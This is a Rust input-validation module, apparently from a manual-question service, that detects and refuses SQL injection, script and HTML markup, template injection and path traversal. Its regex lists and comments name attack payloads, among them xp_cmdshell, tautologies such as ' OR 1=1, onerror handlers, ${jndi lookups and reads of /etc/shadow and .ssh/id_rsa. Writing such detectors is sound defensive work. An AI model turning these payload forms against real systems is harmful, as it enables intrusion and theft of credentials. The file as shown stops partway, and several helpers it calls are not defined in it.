//! Free-text validation: refuses hostile input (SQL injection, script/HTML
//! injection, path traversal, template injection) without refusing real
//! questions about manuals.
//!
//! Real manual questions are full of words such as *select*, *drop*,
//! *delete*, *insert*, *update*, *union*, *script*, *exec*, and of `<button>`,
//! `1=1`, `../`, quotes, `OR`, `--`, `;` and `%`. Nothing here refuses a word
//! on its own: every rule looks for the *structure* of a payload — a quote
//! followed by a boolean tautology or a comment, a SQL statement that is also
//! preceded or followed by code punctuation, a tag that carries an event
//! handler, a repeated `../`, a `{{ … }}` expression.
//!
//! The checks run on a *detection view* of the text, which is never returned:
//! full-width look-alikes folded to ASCII, HTML entities, `%XX`/`%uXXXX` and
//! `\xXX`/`\uXXXX` escapes decoded (repeatedly, for double encoding) and the
//! result lower-cased. The text returned to the caller is only cleaned
//! (control and invisible characters removed, whitespace normalised).
//!
//! All patterns are compiled once. A pattern that fails to compile is skipped
//! (never a panic); a unit test asserts that every pattern compiles.

use std::fmt;
use std::sync::LazyLock;

use regex::Regex;

/// Kinds of field, each with its own length limit and rules.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FieldKind {
    /// A free-text question about a manual, at most 1000 characters.
    Question,
    /// The name of an uploaded file (one name, no folders), at most 255 characters.
    FileName,
    /// An id such as a UUID or an S3-style key segment, at most 200 characters.
    Identifier,
    /// An absolute `http`/`https` web address, at most 2048 characters.
    Url,
}

impl FieldKind {
    /// Maximum length, in characters, of the cleaned text.
    pub const fn max_chars(self) -> usize {
        match self {
            Self::Question => 1000,
            Self::FileName => 255,
            Self::Identifier => 200,
            Self::Url => 2048,
        }
    }
}

/// Why a text was refused. `reason` is a sentence for a person and never
/// contains (any part of) the refused text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    pub field: String,
    pub reason: String,
}

impl fmt::Display for Refusal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.field, self.reason)
    }
}

impl std::error::Error for Refusal {}

impl From<Refusal> for crate::error::ApiError {
    fn from(refusal: Refusal) -> Self {
        Self::validation(refusal.field, refusal.reason)
    }
}

const EMPTY: &str = "This field must not be empty.";
const SQL: &str = "This text looks like a database command (SQL injection) rather than plain \
                   text, so it was refused. Please rephrase it in plain words.";
const MARKUP: &str = "This text contains HTML or script markup that could run in a web page, \
                      so it was refused. Please describe it in plain words.";
const TEMPLATE: &str = "This text contains template expression syntax (such as double curly \
                        braces), so it was refused. Single braces like {OK} are fine.";
const TRAVERSAL: &str = "This text contains a file-system path that tries to reach files \
                         outside its folder, so it was refused.";
const FILE_NAME_PATH: &str = "A file name must be a single name: no folders, path separators, \
                              drive letters, '..', device names such as CON or NUL, or \
                              percent-encoded path characters.";
const IDENTIFIER_PATH: &str = "An identifier must not contain path separators, '..' or \
                               percent-encoded path characters.";
const IDENTIFIER_CHARS: &str = "An identifier must start with a letter, a digit or '_' and may \
                                only contain letters A-Z, digits and the characters - _ . : @ + =.";
const URL_SCHEME: &str =
    "A web address must start with http:// or https:// followed by a host name.";
const URL_CHARS: &str = "A web address must not contain spaces, quotes, angle brackets or \
                         backslashes.";

fn too_long(max: usize) -> String {
    format!("This text is too long: at most {max} characters are allowed.")
}

/// Removes control characters (keeping `\n` and `\t` for Question, none for the
/// others), normalises Unicode whitespace runs to single spaces for Question
/// (trim ends), then checks length (in chars) and hostile patterns.
/// Returns the cleaned text.
///
/// Cleaning details: for every kind, invisible format characters (zero-width
/// space, bidi overrides and isolates, BOM, soft hyphen, Unicode tag
/// characters) are removed too. For Question, `\r` counts as a line break, so
/// `"line\r\nbreak"` becomes `"line break"`; every whitespace run (including
/// `\n` and `\t`) becomes one space. The other kinds are trimmed at both ends.
pub fn check_text(field: &str, kind: FieldKind, raw: &str) -> Result<String, Refusal> {
    let refuse = |reason: &str| Refusal {
        field: field.to_owned(),
        reason: reason.to_owned(),
    };
    let max = kind.max_chars();
    // Cheap guard before any work: no cleaning can shrink this below the limit
    // in a way a real client would rely on.
    if raw.len() > max.saturating_mul(16) {
        return Err(refuse(&too_long(max)));
    }
    let cleaned = match kind {
        FieldKind::Question => clean_question(raw),
        FieldKind::FileName | FieldKind::Identifier | FieldKind::Url => clean_single_line(raw),
    };
    if cleaned.is_empty() {
        return Err(refuse(EMPTY));
    }
    if cleaned.chars().count() > max {
        return Err(refuse(&too_long(max)));
    }

    let views = Views::new(&cleaned);
    match kind {
        FieldKind::Question => {}
        FieldKind::FileName => {
            if file_name_has_path(&cleaned, &views) {
                return Err(refuse(FILE_NAME_PATH));
            }
        }
        FieldKind::Identifier => {
            if identifier_has_path(&cleaned, &views) {
                return Err(refuse(IDENTIFIER_PATH));
            }
            if !identifier_chars_ok(&cleaned) {
                return Err(refuse(IDENTIFIER_CHARS));
            }
        }
        FieldKind::Url => {
            if cleaned.chars().any(|c| {
                c.is_whitespace() || matches!(c, '<' | '>' | '"' | '`' | '\\') || c.is_control()
            }) {
                return Err(refuse(URL_CHARS));
            }
            if !url_shape_ok(&cleaned) {
                return Err(refuse(URL_SCHEME));
            }
        }
    }

    if has_markup(&cleaned, &views) {
        return Err(refuse(MARKUP));
    }
    if any_match(&TEMPLATE_RULES, &[&views.decoded]) {
        return Err(refuse(TEMPLATE));
    }
    if matches!(kind, FieldKind::Question | FieldKind::Url) && has_traversal(&views) {
        return Err(refuse(TRAVERSAL));
    }
    if any_match(&SQL_RULES, &[&views.decoded, &views.sql]) {
        return Err(refuse(SQL));
    }
    Ok(cleaned)
}

// ---------------------------------------------------------------------------
// Cleaning
// ---------------------------------------------------------------------------

/// Invisible characters that only serve to hide or reorder text.
fn is_invisible_format(c: char) -> bool {
    matches!(
        c,
        '\u{00AD}'
            | '\u{180E}'
            | '\u{200B}'
            | '\u{200E}'
            | '\u{200F}'
            | '\u{202A}'..='\u{202E}'
            | '\u{2060}'..='\u{2064}'
            | '\u{2066}'..='\u{2069}'
            | '\u{FEFF}'
            | '\u{FFF9}'..='\u{FFFB}'
            | '\u{E0000}'..='\u{E007F}'
    )
}

/// Whether `raw` holds nothing once cleaned as a question (empty, whitespace, control or
/// invisible characters only). The predecessor's clients send `"question": ""` next to a
/// spoken clip: such a question is absent, not invalid.
pub fn is_blank_question(raw: &str) -> bool {
    clean_question(raw).is_empty()
}

fn clean_question(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut pending_space = false;
    for c in raw.chars() {
        // `\r` is a line break like `\n`; other controls are dropped outright.
        if c.is_whitespace() || c == '\r' {
            pending_space = true;
            continue;
        }
        if c.is_control() || is_invisible_format(c) {
            continue;
        }
        if pending_space && !out.is_empty() {
            out.push(' ');
        }
        pending_space = false;
        out.push(c);
    }
    out
}

fn clean_single_line(raw: &str) -> String {
    let kept: String = raw
        .chars()
        .filter(|&c| !c.is_control() && !is_invisible_format(c))
        .collect();
    kept.trim().to_owned()
}

// ---------------------------------------------------------------------------
// Detection views
// ---------------------------------------------------------------------------

struct Views {
    /// Look-alikes folded, entities and escapes decoded, lower-cased.
    decoded: String,
    /// `decoded` without control characters (browsers drop tab/CR/LF inside
    /// `javascript:`), for protocol checks.
    compact: String,
    /// `decoded` with SQL comments, `+` and undecodable bytes turned into spaces.
    sql: String,
    /// The cleaned text lower-cased, before any decoding (for encoded forms).
    lower: String,
}

impl Views {
    fn new(cleaned: &str) -> Self {
        let mut current = fold_lookalikes(cleaned);
        for _ in 0..4 {
            let next = fold_lookalikes(&decode_js_escapes(&decode_percent(&decode_entities(
                &current,
            ))));
            if next == current {
                break;
            }
            current = next;
        }
        let decoded = current.to_lowercase();
        let compact: String = decoded.chars().filter(|c| !c.is_control()).collect();
        let sql = sql_view(&decoded);
        Self {
            decoded,
            compact,
            sql,
            lower: cleaned.to_lowercase(),
        }
    }
}

/// Folds full-width and small-form look-alikes of ASCII punctuation and
/// letters (`＜script＞`, `／`, `﹤`) to ASCII, as NFKC normalisation would.
fn fold_lookalikes(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '\u{FF01}'..='\u{FF5E}' => {
                out.push(char::from_u32(u32::from(c) - 0xFEE0).unwrap_or(c));
            }
            '\u{3000}' => out.push(' '),
            '\u{FE64}' => out.push('<'),
            '\u{FE65}' => out.push('>'),
            '\u{FE68}' | '\u{2216}' | '\u{29F5}' => out.push('\\'),
            '\u{FE69}' => out.push('$'),
            '\u{FE5B}' => out.push('{'),
            '\u{FE5C}' => out.push('}'),
            '\u{FE6A}' => out.push('%'),
            '\u{FE5F}' => out.push('#'),
            '\u{2215}' | '\u{2044}' => out.push('/'),
            '\u{2024}' | '\u{FE52}' => out.push('.'),
            '\u{2025}' => out.push_str(".."),
            _ => out.push(c),
        }
    }
    out
}

fn named_entity(name: &str) -> Option<&'static str> {
    Some(match name {
        "lt" => "<",
        "gt" => ">",
        "amp" => "&",
        "quot" => "\"",
        "apos" => "'",
        "sol" => "/",
        "bsol" => "\\",
        "period" => ".",
        "colon" => ":",
        "semi" => ";",
        "lpar" => "(",
        "rpar" => ")",
        "lbrace" | "lcub" => "{",
        "rbrace" | "rcub" => "}",
        "lsqb" | "lbrack" => "[",
        "rsqb" | "rbrack" => "]",
        "tab" => "\t",
        "newline" => "\n",
        "excl" => "!",
        "num" => "#",
        "dollar" => "$",
        "percnt" => "%",
        "equals" => "=",
        "grave" => "`",
        "plus" => "+",
        "comma" => ",",
        "nbsp" => " ",
        "ast" | "midast" => "*",
        "vert" | "verbar" => "|",
        "quest" => "?",
        "hyphen" | "dash" => "-",
        _ => return None,
    })
}

/// Parses the entity after a `&`; returns its text and the bytes consumed.
fn parse_entity(after_amp: &str) -> Option<(String, usize)> {
    if let Some(numeric) = after_amp.strip_prefix('#') {
        let hex = numeric.starts_with(['x', 'X']);
        let start = if hex { 2 } else { 1 };
        let body = after_amp.get(start..)?;
        let len = body
            .bytes()
            .take_while(|b| {
                if hex {
                    b.is_ascii_hexdigit()
                } else {
                    b.is_ascii_digit()
                }
            })
            .count();
        if len == 0 {
            return None;
        }
        let digits = body.get(..len)?.trim_start_matches('0');
        let value = if digits.is_empty() {
            0
        } else if digits.len() > 7 {
            return None;
        } else {
            u32::from_str_radix(digits, if hex { 16 } else { 10 }).ok()?
        };
        let c = char::from_u32(value)?;
        let mut used = start + len;
        if after_amp.get(used..)?.starts_with(';') {
            used += 1;
        }
        return Some((c.to_string(), used));
    }
    let len = after_amp
        .bytes()
        .take(12)
        .take_while(u8::is_ascii_alphanumeric)
        .count();
    let name = after_amp.get(..len)?.to_ascii_lowercase();
    let text = named_entity(&name)?;
    if after_amp.get(len..)?.starts_with(';') {
        Some((text.to_owned(), len + 1))
    } else if matches!(name.as_str(), "lt" | "gt" | "amp" | "quot" | "apos") {
        // Browsers accept these legacy names without the semicolon.
        Some((text.to_owned(), len))
    } else {
        None
    }
}

fn decode_entities(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(pos) = rest.find('&') {
        out.push_str(rest.get(..pos).unwrap_or_default());
        let after = rest.get(pos + 1..).unwrap_or_default();
        match parse_entity(after) {
            Some((text, used)) => {
                out.push_str(&text);
                rest = after.get(used..).unwrap_or_default();
            }
            None => {
                out.push('&');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

fn hex_value(bytes: &[u8]) -> Option<u32> {
    if bytes.is_empty() || !bytes.iter().all(u8::is_ascii_hexdigit) {
        return None;
    }
    u32::from_str_radix(std::str::from_utf8(bytes).ok()?, 16).ok()
}

fn push_char(out: &mut Vec<u8>, value: u32) -> bool {
    match char::from_u32(value) {
        Some(c) => {
            let mut buf = [0u8; 4];
            out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
            true
        }
        None => false,
    }
}

/// Decodes `%XX` (as bytes, then UTF-8 lossily) and `%uXXXX`.
fn decode_percent(s: &str) -> String {
    if !s.contains('%') {
        return s.to_owned();
    }
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        if b == b'%' {
            if let Some(v) = bytes.get(i + 1..i + 3).and_then(hex_value) {
                out.push(u8::try_from(v).unwrap_or(b'?'));
                i += 3;
                continue;
            }
            if matches!(bytes.get(i + 1), Some(b'u' | b'U'))
                && let Some(v) = bytes.get(i + 2..i + 6).and_then(hex_value)
                && push_char(&mut out, v)
            {
                i += 6;
                continue;
            }
        }
        out.push(b);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Decodes JavaScript/CSS-style escapes `\xXX`, `\uXXXX` and `\u{X…}`.
fn decode_js_escapes(s: &str) -> String {
    if !s.contains('\\') {
        return s.to_owned();
    }
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        if b == b'\\' {
            match bytes.get(i + 1) {
                Some(b'x' | b'X') => {
                    if let Some(v) = bytes.get(i + 2..i + 4).and_then(hex_value)
                        && push_char(&mut out, v)
                    {
                        i += 4;
                        continue;
                    }
                }
                Some(b'u' | b'U') => {
                    if bytes.get(i + 2) == Some(&b'{') {
                        let end = bytes
                            .get(i + 3..)
                            .and_then(|r| r.iter().take(8).position(|&c| c == b'}'));
                        if let Some(end) = end
                            && let Some(v) = bytes.get(i + 3..i + 3 + end).and_then(hex_value)
                            && push_char(&mut out, v)
                        {
                            i += 4 + end;
                            continue;
                        }
                    } else if let Some(v) = bytes.get(i + 2..i + 6).and_then(hex_value)
                        && push_char(&mut out, v)
                    {
                        i += 6;
                        continue;
                    }
                }
                _ => {}
            }
        }
        out.push(b);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

static SQL_COMMENT: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?s)/\*!\d*|/\*.*?\*/").ok());

fn sql_view(decoded: &str) -> String {
    let no_comments = match SQL_COMMENT.as_ref() {
        Some(re) => re.replace_all(decoded, " ").into_owned(),
        None => decoded.to_owned(),
    };
    no_comments
        .chars()
        .map(|c| {
            if c == '+' || c == '\u{FFFD}' || c.is_control() {
                ' '
            } else {
                c
            }
        })
        .collect()
}

// ---------------------------------------------------------------------------
// Rules
// ---------------------------------------------------------------------------

/// Placeholders shared by the patterns below.
fn expand(pattern: &str) -> String {
    // A quote character.
    const Q: &str = r#"['"`]"#;
    // A boolean operator.
    const BOOL: &str = r"(?:(?:or|and|xor)\b|\|\||&&)";
    // A table (or column) name, possibly qualified.
    const TBL: &str = r#"[\w$@\[\]"`]+(?:\.[\w$@\[\]"`]+)*"#;
    // A SQL comment that ends the text (`--`, `#`) or opens a block (`/*`).
    const CMT: &str = r"(?:(?:--|#)[\s\-+]*$|/\*)";
    // What may follow a table name in a statement.
    const TERM: &str = r"(?:--|#|\s*(?:$|;|\)|/\*|(?:--|#)[\s\-+]*$)|\s+(?:where|limit|order\s+by|group\s+by|having|join|union|values?|set|into|returning|cascade)\b)";
    // Code punctuation after a statement.
    const POST: &str = r"(?:\s*;\s*$|\s*;?\s*(?:--|#)[\s\-+]*$|--|#|\s*;?\s*/\*)";
    pattern
        .replace("%Q%", Q)
        .replace("%BOOL%", BOOL)
        .replace("%TBL%", TBL)
        .replace("%CMT%", CMT)
        .replace("%TERM%", TERM)
        .replace("%POST%", POST)
}

/// SQL statements that count only next to code punctuation (a quote, `;` or
/// `*/` before them, and a terminator after the table name).
const SQL_STATEMENTS_NEEDING_TERMINATOR: &[&str] = &[
    r"select\s+[^;]*?\s+from\s+%TBL%",
    r"insert\s+into\s+%TBL%",
    r"delete\s+(?:\*\s+)?from\s+%TBL%",
    r"drop\s+(?:table|database|schema|view|index|procedure|function|trigger|user|column|sequence|login)\s+(?:if\s+exists\s+)?%TBL%",
    r"truncate\s+(?:table\s+)?%TBL%",
    r"create\s+(?:or\s+replace\s+)?(?:table|database|schema|user|login|function|procedure|trigger|view)\s+%TBL%",
    r"alter\s+(?:table|user|database|login|system|role)\s+%TBL%",
    r"shutdown(?:\s+with\s+nowait)?",
    r"grant\s+(?:all|select|insert|update|delete|execute|dba|connect)\b[^;]*?\bto\s+%TBL%",
];

/// SQL statements that are code-shaped enough once next to code punctuation.
const SQL_STATEMENTS_SELF_EVIDENT: &[&str] = &[
    r#"update\s+%TBL%\s+set\s+[\w.`"\[\]]+\s*="#,
    r"exec(?:ute)?\s*(?:\(|@|sp_|xp_|master\.|immediate\b)",
    r"declare\s+@",
    r"set\s+@\w+\s*=",
    r"select\s*(?:\*\s*(?:from\b|,|\)|;|--|#|$)|@@)",
    r"select\s+(?:null\b|\w+\()",
    r"waitfor\s",
    r"begin\s+(?:declare|exec|dbms_)",
    r"load\s+data\s",
    r"union\s+(?:all\s+|distinct\s+)?\(?\s*select\b",
];

/// SQL rules that need no further context.
const SQL_ALWAYS: &[&str] = &[
    // Quote, boolean, quoted tautology: ' OR '1'='1, " or ""=", ') or ('a'='a
    r#"%Q%\s*\)*\s*%BOOL%\s*\(*\s*%Q%[^'"`]{0,24}%Q%\s*(?:=|<>|!=|<=>|-|\blike\b|\brlike\b|\bregexp\b)\s*\(*\s*%Q%"#,
    // Quote, boolean, numeric comparison: ' OR 1=1, ' and 2>1
    r"%Q%\s*\)*\s*%BOOL%\s*\(*\s*\d+(?:\.\d+)?\s*(?:=|<>|!=|<=>|<=|>=|<|>)\s*\(*\s*(?:\d|%Q%|@@|\(|(?:select|convert|cast|char|concat)\b)",
    // Quote, boolean, literal, then a comment: ' or true--, ' or a=a#
    r"%Q%\s*\)*\s*%BOOL%\s+(?:true|false|null|not\s+\w+|\d+|\w+\s*=\s*\w+)\s*%CMT%",
    // Quote followed by a comment: admin'--, admin' #, ' ;--, admin'/*
    r#"%Q%\s*\)*\s*;?\s*(?:(?:--|#)[\s\-+]*$|/\*(?:[^'"`]|$))"#,
    // Quote then ORDER BY / GROUP BY / HAVING probes.
    r"%Q%\s*\)*\s*(?:order|group)\s+by\s+\d",
    r"%Q%\s*\)*\s*having\s+\d",
    // Quote then string concatenation with a function or subquery.
    r"%Q%\s*\)*\s*(?:\|\||\+)\s*\(*\s*(?:(?:select|sleep|pg_sleep|benchmark|char|chr|concat|cast|convert|version|user|database|db_name|utl_\w+|dbms_\w+)\s*\(|select\b|@@)",
    // UNION-based extraction.
    r"\bunion\s+(?:all\s+|distinct\s+)?\(?\s*select\s*(?:\*|@@|null\b|\d|\(|\w+\(|distinct\b|all\b|top\s+\d|[\w.$]+\s*,\s*[\w.$@()'`]+\s*(?:,|from\b|--|#|;|$)|[\w.$]+\s+from\b|[\w.$]+\s*(?:--|#|/\*|;|$))",
    r"\bunion\s*\(\s*select\b",
    // SELECT * FROM table, SELECT @@version, SELECT user()
    r"\bselect\s*\*\s*from\s*(?:\(|%TBL%%TERM%)",
    r"\bselect\s+(?:@@|(?:user|database|version|current_user|system_user|session_user|schema|load_file|pg_sleep|sleep|benchmark|group_concat|concat)\()",
    // Statement shapes that only code has.
    r"\binsert\s+into\s+%TBL%\s*(?:\([^)]*\)\s*)?(?:values?\s*\(|select\b)",
    r#"\bupdate\s+%TBL%\s+set\s+[\w.`"\[\]]+\s*=\s*(?:%Q%|\d|\(|@|null\b|\w+\()"#,
    r#"\bdelete\s+from\s+%TBL%\s+where\s+[\w.`"\[\]]+\s*(?:=|<|>|\blike\b|\bin\b|\bis\b)"#,
    r"\bexists\s*\(\s*select\b",
    r"\bin\s*\(\s*select\s+(?:\*|null\b|@@|\w+\(|\d+\s*\))",
    r"\(\s*select\s*(?:\(|\*|count\(|@@|null\b|top\s+\d|\w+\()",
    r#"\(\s*select\s+[^()]*?\s+from\s+%TBL%\s+(?:limit|order\s+by|group\s+by|where\s+[\w.`"\[\]]+\s*(?:=|<|>|\blike\b|\bin\b|\bis\b))"#,
    // Quote, boolean, LIKE with a wildcard: ' or username like '%
    r"%Q%\s*\)*\s*%BOOL%\s*\(*\s*[\w.]+\s+(?:like|rlike)\s+%Q%[%_]",
    // Names that only appear in payloads.
    r"\b(?:xp_cmdshell|xp_dirtree|xp_regread|xp_regwrite|xp_fileexist|xp_servicecontrol|sp_executesql|sp_oacreate|sp_oamethod|sp_makewebtask|sp_addlogin|sp_addsrvrolemember|sp_configure|sp_password|information_schema|sqlite_master|sqlite_schema|sysobjects|syscolumns|pg_shadow|pg_catalog|pg_read_file|lo_import|dbms_pipe|dbms_lock|dbms_xmlgen|utl_http|utl_inaddr|utl_file|load_file|mysql\.user)\b",
    r"\binto\s+(?:out|dump)file\b",
    r"\bexec(?:ute)?\s+(?:master\.|xp_|sp_)",
    r"\bcopy\s+\w+\s+(?:from|to)\s+program\b",
    // Time-based blind injection.
    r"\bpg_sleep\s*\(",
    r"\bwaitfor\s+(?:delay|time)\b",
    r"\bbenchmark\s*\(\s*\d+\s*,",
    r"\b(?:randomblob|zeroblob)\s*\(\s*\d{5,}",
    r"(?:%Q%|\(|,|;|=|\|\||&&|\b(?:and|or|xor|select|if|then|else|when|not)\b)\s*\(*\s*sleep\s*\(\s*\d+(?:\.\d+)?\s*\)",
    // Server variables.
    r"@@[a-z_]{3,}",
    // CHAR()/CONCAT() encoding tricks. (A single CHAR(10), as in spreadsheet
    // formulas, is fine.)
    r"\b(?:n?char|chr)\s*\(\s*0x[0-9a-f]+",
    r"\b(?:n?char|chr)\s*\(\s*\d+\s*\)\s*(?:\+|\|\|)\s*(?:n?char|chr)\s*\(",
    r"\bchar\s*\(\s*\d+\s*(?:,\s*\d+\s*){2,}\)",
    r"\b(?:concat|concat_ws|group_concat)\s*\(\s*(?:0x|char\s*\(|@@|\(\s*select|version\s*\(|user\s*\()",
    r"\bunhex\s*\(",
    r"\b(?:extractvalue|updatexml)\s*\(",
    // Numeric tautologies followed by a comment or the end: 1 OR 1=1--
    r"\b\d+\s*\)*\s*%BOOL%\s*\(*\s*\d+\s*(?:=|<>|!=|<|>)\s*\d+\s*(?:$|;|%CMT%)",
    r"\b(?:or|and)\s+\d+\s*=\s*\d+\s*%CMT%",
    // A statement terminator followed by a trailing comment: ...; --
    r";\s*(?:--|#)[\s\-+]*$",
    // Comment-obfuscated keywords: UNION/**/SELECT, /*!50000SELECT*/
    r"/\*!\d*",
    r"\*/\s*(?:select|union|from|where|and|or|insert|update|delete|drop|exec|sleep|benchmark|having|order)\b",
    r"\b(?:select|union|from|where|and|or|insert|update|delete|drop|exec|sleep|benchmark|having|order|char)\s*/\*",
];

fn sql_patterns() -> Vec<String> {
    let mut patterns: Vec<String> = SQL_ALWAYS.iter().map(|p| expand(p)).collect();
    for core in SQL_STATEMENTS_NEEDING_TERMINATOR {
        patterns.push(expand(&format!(r"(?:%Q%|;|\*/)\s*(?:{core})%TERM%")));
        patterns.push(expand(&format!(r"\b(?:{core})%POST%")));
    }
    for core in SQL_STATEMENTS_SELF_EVIDENT {
        patterns.push(expand(&format!(r"(?:%Q%|;|\*/)\s*(?:{core})")));
        patterns.push(expand(&format!(r"\b(?:{core})%POST%")));
    }
    patterns
}

const MARKUP_PATTERNS: &[&str] = &[
    // Tags that are dangerous even without attributes.
    r"<\s*/?\s*(?:script|iframe|frameset|object|embed|applet|xmp|plaintext|noembed|noscript)\b",
    // Any tag carrying an event handler: <img src=x onerror=…>, <svg/onload=…>
    r#"<[a-z][^<>]*[\s/"'`]on[a-z]{3,}\s*="#,
    // Attribute break-out: " onmouseover="…
    r"%Q%[\s/]+on[a-z]{3,}\s*=",
    // A handler assigned a call: onerror=alert(1)
    r"\bon[a-z]{3,}\s*=\s*[^\s=]*\(",
    // Tags with attributes that load or run content.
    r"<[a-z][\w:-]*[\s/][^<>]*?\b(?:src|href|action|formaction|data|srcdoc|xlink:href|xmlns|background|dynsrc|lowsrc|style|poster|codebase|code|http-equiv)\s*=",
    // <link>, <style>, <meta>, <base> with any attribute.
    r"<(?:link|style|meta|base)\b[^<>]*=",
    // A <style> element with CSS in it.
    r"<style\b[^>]*>[^<]*?(?:@import|expression|\{[^}]*:)",
    // Closing tags used to break out of a raw-text context.
    r"</\s*(?:script|style|title|textarea|noscript|iframe|xmp|noembed|noframes|template|plaintext|object|embed|frameset|svg|math)\b",
    // Comments, CDATA, DOCTYPE/ENTITY (XXE) and processing instructions.
    r"<!(?:--|\[cdata\[|doctype|entity|element|attlist)",
    r"<\?(?:php|xml)\b|<\?=",
    // Breaking out of an attribute or comment into a new tag: "><script
    r"%Q%\s*/?>\s*<\s*/?[a-z!?]",
    r"-->\s*<\s*[a-z!/]",
    // Script URLs: javascript:alert(1), vbscript:, in attributes or CSS url().
    r"\b(?:java|vb|live|ecma)script:\S",
    r"\b(?:java|vb|live|ecma)script\s*:\s*\S*[(`]",
    r#"(?:href|src|action|formaction|data|url|background|xlink:href|srcdoc|poster|lowsrc|dynsrc)\s*[=(]\s*["'`]?\s*(?:java|vb|live|ecma)script\s*:"#,
    r"\bdata\s*:\s*(?:text/html|text/xml|text/javascript|application/(?:x-)?(?:javascript|xhtml\+xml|ecmascript)|image/svg\+xml)",
    // CSS script vectors.
    r"\bexpression\s*\([^)]*\(",
    r":\s*expression\(",
    r"-moz-binding\s*:",
    r"\bbehavior\s*:\s*url\s*\(",
    r#"@import\s+(?:url\s*\(|["'])"#,
    // Breaking out of a JavaScript string: ';alert(1)//
    r"%Q%\s*[-+;|&,)*/]*\s*(?:alert|prompt|confirm|eval|fetch|settimeout|setinterval)(?:\(|`)",
    r#"\b(?:alert|prompt|confirm)(?:\(|`)\s*(?:\d|document|window|this|top|self|['"`/]|string\.)"#,
    r"\bdocument\s*\.\s*(?:cookie|domain|write|location)\b",
    r"\bwindow\s*\.\s*(?:location|name|open)\b",
    r"\bfromcharcode\s*\(",
    r"\beval\s*\(\s*(?:atob|unescape|decodeuri|string|location|name)",
    r"\batob\s*\(",
];

const TEMPLATE_PATTERNS: &[&str] = &[
    r"\{\{.*\}\}",
    r"\{%.*%\}",
    r"\$\{[^}]*\}",
    r"\$\{\s*(?:jndi|env|sys|java|lower|upper|date|ctx|::)",
    r"#\{[^}]*\}",
    r"<%.*%>",
    r"<%=",
    r"\{\$\w",
    r"<#(?:assign|list|if|include|import|macro|function|setting|ftl|attempt)\b",
    r"\[#(?:assign|list|if)\b",
    r"#set\s*\(\s*\$",
    r"\$\w+\.(?:getclass|class|forname)\b",
];

/// Traversal in free text: only code-like forms (a single `../` in prose passes).
const TRAVERSAL_PATTERNS: &[&str] = &[
    r"(?:\.{2,}[/\\]+){2,}",
    r"(?:\.\.[/\\]+)+(?:etc|proc|root|windows|winnt|boot\.ini|win\.ini)\b",
    r"/etc/(?:passwd|shadow|group|hosts|hostname|issue|sudoers|crontab|fstab|environment|ssh)\b",
    r"/proc/(?:self|thread-self|\d+)\b",
    r"\.ssh/(?:id_rsa|id_dsa|id_ecdsa|id_ed25519|authorized_keys|known_hosts)",
    r"[a-z]:[\\/]+(?:windows|winnt)[\\/]+(?:win\.ini|system\.ini|system32[\\/]+(?:config|drivers[\\/]+etc)|repair)",
    r"[\\/](?:boot|win|system)\.ini\b",
    r"\bfile:/+(?:etc|proc|root|home|[a-z]:|windows)",
];

/// Dot-dot-slash where at least one part is percent-encoded (checked on the
/// text before decoding; a match must contain `%`).
const ENCODED_TRAVERSAL_PATTERN: &str = r"(?:%(?:25)*2e|%c0%ae|%e0%80%ae|%u002e|%uff0e|\.){2}(?:%(?:25)*(?:2f|5c)|%c0%af|%c1%9c|%e0%80%af|%u2215|%u2216|%uff0f|/|\\)";

/// Percent-encoded `.`, `/`, `\` or NUL, refused in file names and identifiers.
const ENCODED_PATH_CHAR_PATTERN: &str = r"%(?:25)*(?:2e|2f|5c|00)|%c0%a[ef]|%c1%9c|%e0%80%a[ef]|%u(?:002e|002f|005c|2215|2216|ff0e|ff0f)";

/// UTF-7 encoded `<` / `>` (case-sensitive, on the cleaned text).
const UTF7_PATTERN: &str = r"\+AD[w4]-";

fn compile_all(patterns: &[String]) -> Vec<Regex> {
    patterns.iter().filter_map(|p| Regex::new(p).ok()).collect()
}

fn expanded(patterns: &[&str]) -> Vec<String> {
    patterns.iter().map(|p| expand(p)).collect()
}

static SQL_RULES: LazyLock<Vec<Regex>> = LazyLock::new(|| compile_all(&sql_patterns()));
static MARKUP_RULES: LazyLock<Vec<Regex>> =
    LazyLock::new(|| compile_all(&expanded(MARKUP_PATTERNS)));
static TEMPLATE_RULES: LazyLock<Vec<Regex>> =
    LazyLock::new(|| compile_all(&expanded(TEMPLATE_PATTERNS)));
static TRAVERSAL_RULES: LazyLock<Vec<Regex>> =
    LazyLock::new(|| compile_all(&expanded(TRAVERSAL_PATTERNS)));
static ENCODED_TRAVERSAL: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(ENCODED_TRAVERSAL_PATTERN).ok());
static ENCODED_PATH_CHAR: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(ENCODED_PATH_CHAR_PATTERN).ok());
static UTF7: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(UTF7_PATTERN).ok());

fn any_match(rules: &[Regex], texts: &[&str]) -> bool {
    texts
        .iter()
        .any(|text| rules.iter().any(|rule| rule.is_match(text)))
}

fn has_markup(cleaned: &str, views: &Views) -> bool {
    any_match(&MARKUP_RULES, &[&views.decoded, &views.compact])
        || UTF7.as_ref().is_some_and(|re| re.is_match(cleaned))
}

fn has_traversal(views: &Views) -> bool {
    any_match(&TRAVERSAL_RULES, &[&views.decoded])
        || ENCODED_TRAVERSAL
            .as_ref()
            .is_some_and(|re| re.find_iter(&views.lower).any(|m| m.as_str().contains('%')))
}

fn has_separator(text: &str) -> bool {
    text.contains(['/', '\\'])
}

fn has_encoded_path_char(views: &Views) -> bool {
    ENCODED_PATH_CHAR
        .as_ref()
        .is_some_and(|re| re.is_match(&views.lower))
}

